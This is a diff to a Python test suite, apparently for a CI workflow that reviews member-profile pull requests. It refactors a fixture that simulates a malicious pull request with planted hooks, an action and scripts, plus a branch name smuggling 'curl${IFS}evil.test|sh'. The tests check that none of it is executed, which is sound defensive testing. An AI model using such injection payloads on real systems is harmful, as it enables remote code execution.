@@ -146,26 +146,33 @@ def test_thirty_profiles_of_one_account_are_asked_about(scene: Scene) -> None:
     assert "30 profiles are new, all from one account: has each of these people been asked?" in said
 
 
-def test_a_bad_profile_gets_everything_there_is_to_mend(scene: Scene) -> None:
-    ran = flow(scene, {"members/ann-lee.yml": ANN.replace("plumber", "plumbr")})
-    assert ran.code == 0
-    assert "Did you mean plumber?" in scene.hub.said(7)[0]
-
-
-def test_nothing_of_the_pull_request_is_checked_out_or_run(scene: Scene) -> None:
+@pytest.fixture(scope="module")
+def evil(new_scene: Callable[[], Scene]) -> tuple[Scene, Run]:
+    """A pull request with a slip in a profile, and files that would run if anything of it were run."""
+    scene = new_scene()
     mark = scene.folder / "pwned"
     evil = f"open('{mark}', 'w')\n"
     action = f"runs:\n  using: composite\n  steps: [{{shell: bash, run: touch {mark}}}]\n"
     files = {
-        "members/ann-lee.yml": ANN,
+        "members/ann-lee.yml": ANN.replace("plumber", "plumbr"),
         "generator/tools/environment.py": evil,
         "mkdocs.yml": "hooks: [evil.py]\n",
         ".github/actions/setup/action.yml": action,
         "evil.py": evil,
     }
-    ran = flow(scene, files, STRANGER, branch='a";curl${IFS}evil.test|sh;"')
+    return scene, flow(scene, files, STRANGER, branch='a";curl${IFS}evil.test|sh;"')
+
+
+def test_a_bad_profile_gets_everything_there_is_to_mend(evil: tuple[Scene, Run]) -> None:
+    scene, ran = evil
     assert ran.code == 0
-    assert not mark.exists()
+    assert "Did you mean plumber?" in scene.hub.said(7)[0]
+
+
+def test_nothing_of_the_pull_request_is_checked_out_or_run(evil: tuple[Scene, Run]) -> None:
+    scene, ran = evil
+    assert ran.code == 0
+    assert not (scene.folder / "pwned").exists()
     assert "two things at once" in scene.hub.said(7)[0]
 
 
